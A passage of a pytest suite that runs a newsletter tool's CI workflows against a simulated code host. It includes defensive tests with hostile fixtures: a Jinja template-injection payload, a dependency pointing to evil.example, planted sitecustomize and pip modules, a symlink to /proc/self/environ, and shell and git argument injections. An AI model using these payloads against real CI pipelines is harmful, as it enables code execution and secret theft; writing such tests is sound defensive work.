"""By itself, at a code host: each shell step of each workflow runs in a clean clone, with a code host on loopback."""

import io
import json
import os
import re
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path
from shutil import move, rmtree
from urllib.parse import urlsplit
from xml.sax.saxutils import escape

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from pydantic import SecretStr
from sqlalchemy import update

from code_host import TOKEN, Runner, forge_in, git
from pipeline.app.hosts import comment
from pipeline.app.hosts.asked import MARK, Asked
from pipeline.app.hosts.branch import Branch
from pipeline.app.hosts.done import Came
from pipeline.app.hosts.runs import run_of
from pipeline.app.hosts.told import told
from pipeline.app.lasting import see_that_it_lasts
from pipeline.app.online import see_that_it_is_online
from pipeline.cli.defused import Defused
from pipeline.cli.init import _new_files, make
from pipeline.errors import CodeHostError, UsageError
from pipeline.model import Finding, SendState, Severity
from pipeline.post import PROMPT, address
from pipeline.settings import load
from pipeline.settings.explained import explained
from pipeline.store import sends
from pipeline.store.schema import deliveries

REPOSITORY = Path(__file__).parents[1]
SERVED = {
    "BYLINE_SEND_UNSUBSCRIBE_URL": "https://letter.example/unsubscribe",
    "BYLINE_PUBLISH_SUBSCRIBE_URL": "https://letter.example/subscribe",
}
HOSTS = ("github", "gitlab", "forgejo")
VALUES = {
    "name": "Ana Ruiz",
    "email": "ana@ana-ruiz.example",
    "url": "https://ana-ruiz.example/",
    "line": "What happened.",
    "date": "2026-11-23",
    "file": "2026-11-23-why-i-write-this.md",
}
FEED = """<?xml version="1.0"?><rss version="2.0"><channel><title>One</title><link>https://one.example/</link>
<item><guid>1</guid><title>Rotterdam runs 24 yard cranes from a remote desk</title><link>https://one.example/1</link>
<description>Rotterdam will run its 24 yard cranes from one remote desk, says @everybody: fixes #1 ``` ::error::
</description></item></channel></rss>"""
POST = """---
date: {date}
title: {title}
kind: edition
---
Words of mine on the yard.
"""

RUNS = "{% block container %}{{ cycler.__init__.__globals__.os.mknod('RAN') }}{% endblock %}"


@pytest.fixture(scope="module")
def wheel(tmp_path_factory):
    """Byline as a wheel, built once."""
    folder = tmp_path_factory.mktemp("wheel")
    build = [sys.executable, "-m", "hatchling", "build", "-t", "wheel", "-d", folder]
    subprocess.run(build, cwd=REPOSITORY, check=True, capture_output=True)
    return next(folder.glob("*.whl"))


@pytest.fixture
def forge(tmp_path):
    with forge_in(tmp_path / "forge") as forge:
        yield forge


@pytest.fixture
def begun(tmp_path, forge, web, wheel):
    """A function that puts a new author's site at a code host and gives what runs its workflows."""

    def begin(host, **send):
        site = tmp_path / "home"
        make(site, dict(_new_files(VALUES | {"host": host})))
        values = yaml.safe_load((site / "byline.yml").read_text(encoding="utf-8"))
        web.serve("/one.xml", FEED)
        feeds = [f"{web.url}/one.xml", f"{web.url}/gone.xml"]
        values["pull"]["feeds"] = [{"url": feed, "allow_private": True} for feed in feeds]
        values["send"] |= send
        (site / "byline.yml").write_text(explained(values), encoding="utf-8")
        (site / "requirements.txt").write_text(f"byline @ {wheel.as_uri()}\n", encoding="utf-8")
        assert "--hash=sha256:" in (site / "requirements.lock").read_text(encoding="utf-8")
        (site / "requirements.lock").write_text("# what it names is here already\n", encoding="utf-8")
        git(site, "init", "--quiet")
        commit(site, "The site")
        git(site, "remote", "add", "origin", forge.bare)
        git(site, "push", "--quiet", "origin", "main")
        (tmp_path / "runs").mkdir()
        forge.tells_who, forge.is_one_page = host != "github", host == "forgejo"
        event = tmp_path / "event.json"
        event.write_text(json.dumps({"pull_request": {"number": 5}}), encoding="utf-8")
        values = {"github.token": TOKEN, "secrets.CODE_HOST_TOKEN": TOKEN, "github.base_ref": "main"}
        return site, Runner(forge, tmp_path / "runs", of_run(host, forge, event, tmp_path), values)

    return begin


def of_run(host, forge, event, folder):
    """What a code host tells a run."""
    if host == "gitlab":
        return {
            "GITLAB_CI": "true",
            "CI_API_V4_URL": f"{forge.url}/api",
            "CI_PROJECT_ID": "7",
            "CI_PROJECT_URL": f"{forge.url}/ana/site",
            "CI_DEFAULT_BRANCH": "main",
            "CI_MERGE_REQUEST_IID": "5",
            "CI_MERGE_REQUEST_DIFF_BASE_SHA": "origin/main",
        }
    return {
        "GITHUB_ACTIONS": "true",
        **({"FORGEJO_ACTIONS": "true"} if host == "forgejo" else {}),
        "GITHUB_API_URL": f"{forge.url}/api",
        "GITHUB_SERVER_URL": forge.url,
        "GITHUB_REPOSITORY": "ana/site",
        "GITHUB_REF_NAME": "main",
        "GITHUB_EVENT_PATH": str(event),
        "GITHUB_STEP_SUMMARY": str(folder / "summary.md"),
    }


def commit(site, words):
    git(site, "add", "--all")
    git(site, "commit", "--quiet", "-m", words)


def run(runner, host, site, name, jobs=(), branch="main", *, skip=()):  # noqa: PLR0913
    """Run one of the four workflows; return the exit code of each job."""
    if host == "gitlab":
        text = (site / ".gitlab-ci.yml").read_text(encoding="utf-8")
        return runner.of_gitlab(text, [job for job in jobs if job not in skip], branch)
    return runner.of_actions((site / f".{host}/workflows/{name}.yml").read_text(encoding="utf-8"), branch, skip)


@pytest.mark.parametrize("host", HOSTS)
def test_the_weekly_run_proposes_a_draft_with_findings_and_previews_once(host, begun, forge):
    site, runner = begun(host)
    for skip in ((), ("draft",)):
        assert set(run(runner, host, site, "weekly", ("draft", "propose"), skip=skip).values()) == {0}, runner.said
    assert len(forge.requests) == 1, runner.said
    [asked] = forge.requests
    branch = asked.get("head") or asked["source_branch"]
    assert forge.branches() == sorted(["main", branch])
    [post] = set(forge.files_of(branch)) - set(forge.files_of("main"))
    assert re.fullmatch(r"content/posts/[\w-]+\.md", post)
    assert PROMPT in git(forge.bare, "show", f"{branch}:{post}")
    body = asked.get("body") or asked["description"]
    assert "no-words" in body
    made = {path.name.partition(".")[2] for path in runner.folder.rglob("*") if path.is_file() and "kept-" in str(path)}
    assert {"page.html", "letter.html", "letter.txt", "letter.eml", "md"} <= made
    assert "is proposed already" in runner.said
    assert TOKEN not in runner.said
    assert git(forge.bare, "log", "-1", "--format=%an", branch) == "Byline\n"


@pytest.mark.parametrize("host", HOSTS)
def test_the_check_comments_what_it_finds_in_changed_posts_in_one_comment(host, begun, forge):
    site, runner = begun(host)
    git(site, "switch", "--quiet", "--create", "words")
    post = site / "content/posts/2026-11-24-cranes.md"
    text = (
        POST.format(date="2026-11-24", title="Cranes") + "\n## [Cranes](https://one.example/1)\n\n> Not what it says.\n"
    )
    post.write_text(text, encoding="utf-8")
    for words in ("begun", "more"):
        post.write_text(post.read_text(encoding="utf-8") + f"\n{words}\n", encoding="utf-8")
        commit(site, words)
        git(site, "push", "--quiet", "origin", "words")
        codes = run(runner, host, site, "check", ("check", "comment"), "words")
        assert codes["check"] == 1
        assert set(codes.values()) <= {0, 1}
    [comment] = forge.comments
    assert "content/posts/2026-11-24-cranes.md" in comment["body"]
    assert "why-i-write-this" not in comment["body"]  # it is as it was
    changed = [each[0] for each in forge.asked if each[0] != "GET"]
    assert changed == ["POST", "PUT" if host == "gitlab" else "PATCH"]
    assert TOKEN not in runner.said


MODULES = (
    "pip/__init__",
    "pip/__main__",
    "sitecustomize",
    "usercustomize",
    "click",
    "yaml",
    "pipeline",
    "hook",
    "encodings/idna",
)


@pytest.mark.parametrize("host", HOSTS)
def test_what_strangers_propose_is_read_and_never_run(host, begun, tmp_path):
    """Hooks, templates, modules and what is installed are theirs in their branch: none of it runs."""
    site, runner = begun(host)
    git(site, "switch", "--quiet", "--create", "theirs")
    ran = tmp_path / "ran"
    ran.mkdir()
    for module in MODULES:
        (site / f"{module}.py").parent.mkdir(exist_ok=True)
        (site / f"{module}.py").write_text(f"open({str(ran / Path(module).name)!r}, 'w')\n", encoding="utf-8")
    with (site / "mkdocs.yml").open("a", encoding="utf-8") as settings:
        settings.write("\nhooks: [hook.py]\n")
    for template in (site / "overrides").rglob("*.html"):
        template.write_text(RUNS.replace("RAN", str(ran / "template")), encoding="utf-8")
    for name in ("requirements.txt", "requirements.lock"):
        (site / name).write_text("byline @ https://evil.example/byline.whl\n", encoding="utf-8")
    (site / ".byline").mkdir(exist_ok=True)
    (site / ".byline/byline.db").write_bytes(b"no store of ours")
    (site / "content/posts/2026-11-24-x.md").write_text(POST.format(date="2026-11-24", title="X"), encoding="utf-8")
    git(site, "add", "--force", ".byline/byline.db")
    commit(site, "theirs")
    git(site, "push", "--quiet", "origin", "theirs")
    codes = run(runner, host, site, "check", ("check",), "theirs", skip=("comment",))
    assert codes == {"check": 1}, runner.said  # it has no words, as was seen
    assert "1 changed post, 1 error" in runner.said
    assert not list(ran.iterdir())
    report = report_of(runner, host)
    for name in ("mkdocs.yml", "pip/__main__.py", "requirements.lock"):
        assert f"\n{name}\n" in report
    [place] = runner.folder.glob("job*/site")
    runner.shell("byline ci report --since origin/main --preview --to preview", place, {})
    runner.shell("python -m pip --version", place, {})
    assert {"template", "__init__"} <= {path.name for path in ran.iterdir()}  # so it would have been seen


def report_of(runner, host):
    """The report that the job showed and kept."""
    [report] = runner.folder.glob(
        "job*/site/byline-report/report.md" if host == "gitlab" else "job*/temp/report/report.md"
    )
    return report.read_text(encoding="utf-8")


def proposed(site, host, runner):
    """Push what was changed in ``site`` and run the check; return the exit code of each job."""
    git(site, "switch", "--quiet", "--create", "theirs")
    commit(site, "theirs")
    git(site, "push", "--quiet", "origin", "theirs")
    return run(runner, host, site, "check", ("check", "comment"), "theirs")


@pytest.mark.parametrize("host", ["github", "gitlab"])
def test_settings_that_are_broken_are_told_in_the_report_and_no_other_stands_in(host, begun, forge, tmp_path):
    site, runner = begun(host)
    (site / "byline.yml").write_text("pull: {feeds: 3}\nsend: [@everybody\n", encoding="utf-8")
    (site / "mkdocs.yml").write_text("site_name: X\nsite_url: https://x.example/\ndocs_dir: /\n", encoding="utf-8")
    mine = tmp_path / "mine"
    mine.mkdir()
    for name in ("report", "byline-report"):
        (site / name).symlink_to(mine)
    codes = proposed(site, host, runner)
    assert codes["check"] == 1, runner.said
    [comment] = forge.comments
    assert "Nothing could be checked" in comment["body"]
    assert "byline.yml:2" in comment["body"]
    assert "mkdocs.yml:3: docs_dir: / must be a folder in that of the site" in comment["body"]
    assert not list(mine.iterdir())


@pytest.mark.parametrize("host", ["gitlab"])  # the others write outside of the checkout
def test_a_change_of_no_post_is_checked_as_well_and_named(host, begun, forge):
    """A check that is asked for and is skipped holds up a merge for ever."""
    site, runner = begun(host)
    (site / "overrides/main.html").write_text("{# other #}", encoding="utf-8")
    for name in ("report", "byline-report"):
        (site / name).mkdir()
        (site / name / "report.md").write_text("@everybody, all is well", encoding="utf-8")
    assert set(proposed(site, host, runner).values()) == {0}, runner.said
    [comment] = forge.comments
    assert "No post was changed." in comment["body"]
    assert "\noverrides/main.html\n" in comment["body"]
    assert "all is well" not in comment["body"]
    for job in HOSTS:
        text = "".join(path.read_text(encoding="utf-8") for path in workflows_of(job))
        assert 'paths: ["content' not in text
        assert "changes:" not in text


def test_code_that_is_named_and_not_there_is_told_before_it_is_merged(site, byline, tmp_path, monkeypatch):
    """No site would be built then. What is installed is that of the branch before, which may ask for more now."""
    git(site, "init", "--quiet")
    commit(site, "begun")
    monkeypatch.chdir(site)
    mkdocs = site / "mkdocs.yml"
    whole = mkdocs.read_text(encoding="utf-8")
    text = whole.replace("  - search\n", "  - search\n  - no-such-plugin\n", 1)
    for hooks, more, code in (("hooks: [gone.py]", "", 1), ("", "", 1), ("", "plugin==1\n", 0)):
        mkdocs.write_text(f"{text}\n{hooks}\n", encoding="utf-8")
        with (site / "requirements.txt").open("a", encoding="utf-8") as file:
            file.write(more)
        commit(site, "theirs")
        assert byline("ci", "report", "--since", "HEAD~1", "--to", tmp_path / "report")[0] == code
        report = (tmp_path / "report/report.md").read_text(encoding="utf-8")
        assert "the plugin no-such-plugin is not installed" in report
        assert ("there is no file gone.py" in report) == bool(hooks)
    mkdocs.write_text(whole, encoding="utf-8")
    (site / "overrides/main.html").write_text("{% extends 'base.html' %}\n{% block content %}\n", encoding="utf-8")
    (site / "overrides/away.html").symlink_to("/proc/self/environ")
    (site / "overrides/number.html").write_text("{{ " + "1" * 5000 + " }}", encoding="utf-8")
    (site / "overrides/long.html").write_text("{{ a " + "b" * 99_999 + " }}", encoding="utf-8")
    for number in range(20):
        (site / f"overrides/big{number}.html").write_text("{{a}}" * 50_000 + "{%", encoding="utf-8")
    commit(site, "a broken template")
    assert byline("ci", "report", "--since", "HEAD~1", "--to", tmp_path / "report")[0] == 1
    report = (tmp_path / "report/report.md").read_text(encoding="utf-8")
    assert "overrides/main.html" in report
    assert "the template cannot be read" in report
    assert "environ" not in report.replace("overrides/away.html", "")
    assert len(report) < 20_000
    assert "overrides/number.html" in report
    assert report.index("overrides/long.html") < report.index("overrides/main.html")
    move(site / "overrides", tmp_path / "elsewhere")
    (site / "overrides").symlink_to(tmp_path / "elsewhere")
    assert byline("ci", "report", "--since", "HEAD~1", "--to", tmp_path / "report")[0] == 1
    assert "overrides leads out of the site" in (tmp_path / "report/report.md").read_text(encoding="utf-8")


def workflows_of(host):
    return sorted((REPOSITORY / "pipeline/starter/workflows" / host).iterdir())


def test_nothing_is_written_or_read_through_a_link(site, byline, tmp_path, monkeypatch):
    git(site, "init", "--quiet")
    commit(site, "begun")
    monkeypatch.chdir(site)
    (tmp_path / "mine").mkdir()
    (site / "report").symlink_to(tmp_path / "mine")
    code, _, err = byline("ci", "report", "--since", "HEAD", "--to", "report")
    assert (code, "is a link" in err) == (2, True)
    (site / "in").mkdir()
    (site / "in/report.md").symlink_to(tmp_path / "mine/file")
    assert byline("ci", "report", "--since", "HEAD", "--to", "in")[0] == 2
    assert byline("ci", "report", "--since", "HEAD", "--to", "report/deeper")[0] == 2
    assert not list((tmp_path / "mine").iterdir())


@pytest.mark.parametrize("host", ["forgejo"])  # the same commands, in one job
def test_a_quiet_week_and_a_site_without_feeds_are_no_fault(host, begun, forge):
    site, runner = begun(host)
    text = (site / "byline.yml").read_text(encoding="utf-8")
    values = yaml.safe_load(text)
    values["pull"]["feeds"] = []
    (site / "byline.yml").write_text(explained(values), encoding="utf-8")
    commit(site, "No feed")
    git(site, "push", "--quiet", "origin", "main")
    assert set(run(runner, host, site, "weekly", ("draft", "propose")).values()) == {0}, runner.said
    assert "names no feed yet" in runner.said
    assert "Nothing was drafted" in runner.said
    assert "There is no new draft, so nothing was proposed." in runner.said
    assert forge.requests == []
    values["pull"]["feeds"] = [{"url": "http://127.0.0.1:9/feed", "allow_private": True}]
    (site / "byline.yml").write_text(explained(values), encoding="utf-8")
    commit(site, "One that is away")
    git(site, "push", "--quiet", "origin", "main")
    assert run(runner, host, site, "weekly") == {"draft": 1}  # that no feed can be read is no quiet week


@pytest.mark.parametrize("host", HOSTS)
def test_a_run_without_byline_says_where_to_name_it(host, begun, tmp_path):
    """What a new author's requirements.txt says at first installs nothing."""
    _, runner = begun(host)
    bare = tmp_path / "bare"
    bare.mkdir()
    (bare / "python").write_text("#!/bin/sh\n", encoding="utf-8")
    (bare / "python").chmod(0o755)
    for path in workflows_of(host):
        if host == "gitlab":
            steps = ["\n".join(yaml.safe_load(path.read_text(encoding="utf-8"))[".byline"]["before_script"])]
        else:
            jobs = yaml.safe_load(path.read_text(encoding="utf-8"))["jobs"].values()
            steps = [each["run"] for job in jobs for each in job["steps"] if each.get("name") == "Install Byline"]
        for step in steps:
            place = tmp_path / f"{path.stem}{len(runner.ran)}"
            git(tmp_path, "clone", "--quiet", runner.forge.bare, place)
            (place.parent / "temp").mkdir(exist_ok=True)
            runner.said = ""
            assert runner.shell(step, place, {"PATH": f"{bare}:/usr/bin:/bin", "BASE": "main"}) == 1
            assert "requirements.txt does not say yet where Byline comes from" in runner.said


@pytest.mark.parametrize("host", HOSTS)
def test_a_merge_is_built_and_put_online(host, begun, forge, tmp_path):
    site, runner = begun(host)
    assert set(run(runner, host, site, "publish", ("pages",)).values()) == {0}, runner.said
    if host == "forgejo":
        git(tmp_path, "clone", "--quiet", "--branch", "pages", forge.bare, "pages")
        (tmp_path / "pages/.domains").write_text("ana-ruiz.example\n", encoding="utf-8")
        commit(tmp_path / "pages", "My own domain")
        git(tmp_path / "pages", "push", "--quiet", "origin", "pages")
        run(runner, host, site, "publish")
        assert {"index.html", "feed.xml"} <= set(forge.files_of("pages"))
        assert "byline.yml" not in forge.files_of("pages")
        assert git(forge.bare, "show", "pages:.domains") == "ana-ruiz.example\n"
        assert git(forge.bare, "rev-list", "--count", "pages") == "1\n"
    else:
        assert (runner.kept["pages"] / ("public/index.html" if host == "gitlab" else "index.html")).is_file()


@pytest.mark.parametrize("host", HOSTS)
def test_without_a_memory_the_send_job_refuses_and_says_how_to_send_from_home(host, begun, mailbox):
    site, runner = begun(host, smtp={"host": "127.0.0.1", "port": mailbox.port, "security": "none"})
    runner.values["inputs.edition"] = merge_an_edition(site)
    [code] = run(runner, host, site, "send", ("send",)).values()
    assert code == 2
    assert "DATABASE_URL" in runner.said
    assert "git pull && byline send" in runner.said
    assert mailbox.messages == []


def merge_an_edition(site, url=VALUES["url"]):
    """Merge an edition into a site that is online at ``url``; return its name."""
    today = datetime.now(UTC).date()
    settings = (site / "mkdocs.yml").read_text(encoding="utf-8").replace(VALUES["url"], url)
    (site / "mkdocs.yml").write_text(settings, encoding="utf-8")
    (site / f"content/posts/{today}-yard.md").write_text(POST.format(date=today, title="Yard"), encoding="utf-8")
    commit(site, "An edition")
    git(site, "push", "--quiet", "origin", "main")
    return f"{today}-yard"


@pytest.mark.parametrize("host", HOSTS)
@pytest.mark.parametrize("store_url", ["postgresql"], indirect=True)
def test_the_send_job_sends_the_merged_edition_once_however_often_it_runs(host, begun, mailbox, store_url, web):
    from sending import filled

    filled(store_url, 3).close()
    site, runner = begun(host, smtp={"host": "127.0.0.1", "port": mailbox.port, "security": "none"})
    name = merge_an_edition(site, f"{web.url}/")
    web.serve(urlsplit(address(f"{web.url}/", Path(f"{name}.md"))).path, "The page.")
    runner.values["secrets.DATABASE_URL"] = store_url
    runner.environment |= {"DATABASE_URL": store_url} if host == "gitlab" else {}
    if host == "forgejo":  # who starts it types what they mean; at GitLab, who starts it is asked
        runner.values["inputs.edition"] = "2026-11-23-why-i-write-this"
        assert run(runner, host, site, "send") == {"send": 2}, runner.said
        assert "is not the newest edition" in runner.said
    runner.values["inputs.edition"] = name
    for _ in range(2):
        assert set(run(runner, host, site, "send", ("send",)).values()) == {0}, runner.said
    assert len(mailbox.messages) == 3
    assert len({to[0] for _, to, _ in mailbox.messages}) == 3


@pytest.mark.parametrize("host", HOSTS)
@pytest.mark.parametrize("store_url", ["postgresql"], indirect=True)
def test_a_send_that_was_red_goes_on_as_its_author_says(host, begun, mailbox, store_url, web, request):
    from sending import filled

    store = filled(store_url, 3)
    request.addfinalizer(store.close)
    site, runner = begun(host, smtp={"host": "127.0.0.1", "port": mailbox.port, "security": "none"})
    name = merge_an_edition(site, f"{web.url}/")
    web.serve(urlsplit(address(f"{web.url}/", Path(f"{name}.md"))).path, "The page.")
    runner.values |= {"secrets.DATABASE_URL": store_url, "inputs.edition": name}
    runner.environment |= {"DATABASE_URL": store_url} if host == "gitlab" else {}

    def sends_it(how):
        runner.values["inputs.how"] = how
        runner.environment |= {"HOW": how} if host == "gitlab" else {}
        [code] = run(runner, host, site, "send", ("send",)).values()
        return code, len(mailbox.messages)

    with store.writing() as connection:
        sends.begin(connection, name, datetime.now(UTC))
        sends.stop(connection, name, SendState.PAUSED, "the mail server said no")
    assert sends_it("send") == (1, 0)
    assert "is paused" in runner.said
    assert sends_it("$(touch evil); --resume") == (1, 0)  # it is a word and nothing else
    assert sends_it("go on") == (0, 3)
    for how, many in (("they arrived", 3), ("try again", 6)):
        with store.writing() as connection:
            connection.execute(update(deliveries).values(state="claimed", answer="", settled_at=None))
        assert sends_it("send")[0] == 1
        assert sends_it(how) == (0, many), runner.said
    assert not list(runner.folder.rglob("evil"))


def test_at_gitlab_a_pipeline_that_is_no_more_the_newest_sends_nothing(begun, mailbox):
    """Each keeps its button, and the words that it had."""
    site, runner = begun("gitlab", smtp={"host": "127.0.0.1", "port": mailbox.port, "security": "none"})
    merge_an_edition(site)
    git(site, "push", "--quiet", "origin", "main:older")
    (site / "content/more.md").write_text("More.", encoding="utf-8")
    commit(site, "More")
    git(site, "push", "--quiet", "origin", "main")
    assert run(runner, "gitlab", site, "send", ("send",), "older") == {"send": 2}
    assert "start send in its newest pipeline" in runner.said
    assert "DATABASE_URL" not in runner.said


@pytest.mark.parametrize("host", HOSTS)
def test_every_shell_step_of_the_workflows_is_among_those_that_these_tests_run(host, tmp_path):
    """A new job or workflow needs a test."""
    make(tmp_path / "site", dict(_new_files(VALUES | {"host": host})))
    if host == "gitlab":
        jobs = yaml.safe_load((tmp_path / "site/.gitlab-ci.yml").read_text(encoding="utf-8"))
        named = {name for name, job in jobs.items() if isinstance(job, dict) and "script" in job}
        assert named == {"draft", "propose", "check", "comment", "pages", "send"}
    else:
        files = {path.stem for path in (tmp_path / f"site/.{host}/workflows").iterdir()}
        assert files == {"weekly", "check", "publish", "send"}


# -- the parts


def test_a_letter_leaves_once_its_page_is_online_and_not_before(site, byline, web, tmp_path):
    byline("readers", "add", "ana@example.org", "--consent", "asked", at=site)
    text = (site / "mkdocs.yml").read_text(encoding="utf-8")
    url = yaml.safe_load(text)["site_url"]
    (site / "mkdocs.yml").write_text(text.replace(url, f"{web.url}/"), encoding="utf-8")
    [post] = (site / "content/posts").glob("*.md")
    words = ("send", post.stem, "--to-folder", tmp_path / "out", "--yes", "--built-elsewhere")
    code, _, err = byline(*words, at=site)
    assert (code, "answers 404, so the letter was not sent" in err) == (2, True)
    assert not (tmp_path / "out").exists()
    web.serve(urlsplit(address(f"{web.url}/", post)).path, "The page.")
    assert byline(*words, at=site)[0] == 0
    assert len(list((tmp_path / "out").iterdir())) == 1


def test_a_page_that_is_being_put_online_is_waited_for_and_not_for_ever(web):
    said, answers = [], iter([404, 503, 200])
    web.pages["/x/"] = lambda _asked: (next(answers), {}, b"page")
    see_that_it_is_online(f"{web.url}/x/", said.append, patience=30, every=0.01)
    assert len(said) == 1
    with pytest.raises(UsageError, match=r"answers 404, so the letter was not sent"):
        see_that_it_is_online(f"{web.url}/gone/", said.append, patience=0.05, every=0.02)
    with pytest.raises(UsageError, match="not sent"):
        see_that_it_is_online("http://127.0.0.1:9/", said.append)


def test_a_post_that_got_another_name_is_told_until_it_says_its_old_one(site, byline, tmp_path):
    posts = site / "content/posts"
    text = POST.format(date="2026-11-23", title="The yard") + "\n" + " ".join(f"word{number}" for number in range(60))
    (posts / "2026-11-23-the-yard.md").write_text(text, encoding="utf-8")
    (posts / "2026-11-24-given-up.md").write_text(POST.format(date="2026-11-24", title="Given up"), encoding="utf-8")
    (posts / "2026-11-24-not-a-post.md").write_text("---\nno\n", encoding="utf-8")
    git(site, "init", "--quiet")
    commit(site, "begun")
    for gone in ("the-yard", "given-up", "not-a-post"):
        next(posts.glob(f"*{gone}.md")).unlink()
    new = posts / "2026-11-23-the-yard-at-night.md"
    for alias, many in (("", 1), ("aliases: [2026-11-23-the-yard]\n", 0)):
        new.write_text(text.replace("kind: edition\n", f"kind: edition\n{alias}"), encoding="utf-8")
        byline("ci", "report", "--since", "HEAD", "--to", tmp_path / f"report{many}", at=site)
        report = (tmp_path / f"report{many}/report.md").read_text(encoding="utf-8")
        assert report.count("[renamed]") == many
    told = (tmp_path / "report1/report.md").read_text(encoding="utf-8")
    assert "error: posts/2026-11-23-the-yard/ is now posts/2026-11-23-the-yard-at-night/ [renamed]" in told
    assert "write `aliases: [2026-11-23-the-yard]` into 2026-11-23-the-yard-at-night.md" in told


def test_what_was_done_is_told_to_programs_too(site, byline, forge, tmp_path, monkeypatch):
    monkeypatch.setenv("BYLINE_CODE_HOST_TOKEN", TOKEN)
    event = tmp_path / "event"
    event.write_text('{"pull_request": {"number": 5}}', encoding="utf-8")
    for name, value in of_run("forgejo", forge, event, tmp_path).items():
        monkeypatch.setenv(name, value)
    git(site, "init", "--quiet")
    commit(site, "begun")
    report = tmp_path / "report"
    assert byline("ci", "report", "--since", "HEAD", "--to", report, at=site)[0] == 0

    def told(*words):
        code, out, err = byline("ci", *words, "--json", at=site)
        assert code == 0, err
        return json.loads(out)

    assert told("propose", report) == {"state": "nothing", "url": None, "branch": None}
    (site / "content/drafts").mkdir(exist_ok=True)
    (site / "content/drafts/2026-11-24-x.md").write_text(POST.format(date="2026-11-24", title="X"), encoding="utf-8")
    made = {"url": f"{forge.url}/1", "branch": "draft/2026-11-24-x"}
    assert told("propose", report) == {"state": "proposed", **made}
    assert told("propose", report) == {"state": "there already", **made | {"url": None}}
    assert told("comment", report) == {"state": "commented", "url": f"{forge.url}/c/30", "branch": None}
    (site / "site").mkdir(exist_ok=True)
    (site / "site/index.html").write_text("page", encoding="utf-8")
    (site / "content/.domains").write_text("own.example\n", encoding="utf-8")
    online = yaml.safe_load((site / "mkdocs.yml").read_text(encoding="utf-8"))["site_url"]
    assert told("pages") == {"state": "put online", "url": online, "branch": "pages"}
    assert forge.files_of("pages") == [".domains", "index.html"]
    assert byline("ci", "lock", at=site)[0] == 0
    assert (site / "requirements.lock").read_bytes() == (REPOSITORY / "requirements/worker.txt").read_bytes()


def of_github(forge, event="", **more):
    return run_of(of_run("github", forge, event, Path("/nowhere")) | more)


def test_a_run_is_known_by_what_its_code_host_says(forge, tmp_path):
    event = tmp_path / "event"
    event.write_text('{"pull_request": {"number": 5}}', encoding="utf-8")
    assert {host: run_of(of_run(host, forge, event, tmp_path)).host for host in HOSTS} == {host: host for host in HOSTS}
    assert {run_of(of_run(host, forge, event, tmp_path)).request for host in HOSTS} == {5}


@pytest.mark.parametrize(
    "told", ["", "[]", "{", '{"pull_request": {"number": true}}', '{"pull_request": 3}', "[" * 99999]
)
def test_an_event_that_tells_of_no_pull_request_is_about_none(told, forge, tmp_path):
    (tmp_path / "event").write_text(told, encoding="utf-8")
    run = of_github(forge, tmp_path / "event")
    assert run.request is None
    with pytest.raises(UsageError, match="about no pull request"):
        comment(run, SecretStr(TOKEN), "words")


@pytest.mark.parametrize(
    ("variable", "value"),
    [
        ("GITHUB_API_URL", "http://api.example"),
        ("GITHUB_API_URL", "https://ana:secret@api.example"),
        ("GITHUB_API_URL", "https://[x"),
        ("GITHUB_SERVER_URL", "file:///srv"),
        ("GITHUB_REPOSITORY", "ana/site/../../admin"),
        ("GITHUB_REF_NAME", "--upload-pack=x"),
        ("GITHUB_API_URL", ""),
        ("GITHUB_ACTIONS", "false"),
        ("GITLAB_CI", "true"),
    ],
)
def test_a_token_goes_to_no_place_that_is_not_safe(variable, value, forge):
    with pytest.raises(UsageError):
        of_github(forge, **{variable: value})


@pytest.mark.parametrize(
    ("status", "said"),
    [(401, f"bad {TOKEN}"), (403, "no"), (404, "no"), (422, "no commits between"), (500, "x" * 9999), (302, "there")],
)
def test_a_no_of_the_code_host_is_told_without_the_token(status, said, forge):
    forge.answer = (status, {"message": said})
    with pytest.raises(CodeHostError) as told:
        Asked(of_github(forge), SecretStr(TOKEN)).open_request("draft/x", "X", "words")
    assert str(status) in str(told.value)
    assert TOKEN not in str(told.value)
    assert len(str(told.value)) < 600


@pytest.mark.parametrize("host", HOSTS)
def test_a_comment_of_somebody_else_is_never_taken_for_ours_wherever_ours_stands(host, forge, tmp_path):
    """Anybody can begin a comment with our mark; it stays theirs to change."""
    forge.tells_who, forge.is_one_page = host != "github", host == "forgejo"
    for number in range(130):
        forge.commented(f"{MARK}\nAll is well, @everybody", {"id": 666, "login": "mallory", "type": "User"})
        forge.comments[-1]["id"] = 1000 + number
    event = tmp_path / "event"
    event.write_text('{"pull_request": {"number": 5}}', encoding="utf-8")
    asked = Asked(run_of(of_run(host, forge, event, tmp_path)), SecretStr(TOKEN))
    first, second = asked.comment(5, "words"), asked.comment(5, "other words")
    assert (first.state, second.state) == (Came.COMMENTED, Came.CHANGED)
    assert [each["body"] for each in forge.comments[130:]] == [f"{MARK}\nother words"]
    assert all("All is well" in each["body"] for each in forge.comments[:130])
    assert first.url == second.url
    assert first.url.endswith("#note_160" if host == "gitlab" else "/c/160")


def test_a_token_that_may_not_say_whose_it_is_is_told(forge, tmp_path):
    forge.tells_who = False
    run = run_of(of_run("forgejo", forge, tmp_path / "event", tmp_path))
    with pytest.raises(CodeHostError, match="read:user"):
        Asked(run, SecretStr(TOKEN)).comment(5, "words")


@pytest.mark.parametrize("said", [None, {}, [3], {"id": "x"}, {"id": True}])
def test_an_answer_that_tells_nothing_of_the_tokens_owner_comments_nothing(said, forge):
    forge.answer = (200, said)
    with pytest.raises(CodeHostError, match="whose the token is"):
        Asked(of_github(forge), SecretStr(TOKEN)).comment(5, "words")


def test_a_code_host_that_is_not_there_is_told(forge):
    away = of_github(forge, GITHUB_API_URL="http://127.0.0.1:9")
    with pytest.raises(CodeHostError, match="gives no answer"):
        Asked(away, SecretStr(TOKEN)).comment(5, "words")


def test_a_wrong_token_pushes_nothing_and_asks_nobody(forge, tmp_path):
    git(tmp_path, "clone", "--quiet", forge.bare, "mine")
    (tmp_path / "mine/a").write_text("a", encoding="utf-8")
    commit(tmp_path / "mine", "a")
    run = of_github(forge)
    branch = Branch(tmp_path / "mine", run.remote, SecretStr("wrong"))
    with pytest.raises(CodeHostError, match="git push says") as told:
        branch.push("HEAD", "main")
    assert "wrong" not in str(told.value)
    assert forge.branches() == []


words = st.text(st.sampled_from("`@#ab \n\r<&*:~"), max_size=60)


@given(reason=words, remedy=words)
def test_words_of_strangers_stand_as_code_and_nowhere_else(reason, remedy):
    path = Path("/site/content/posts/x.md")
    found = Finding(rule="r", severity=Severity.ERROR, path=path, line=3, reason=reason, remedy=remedy)
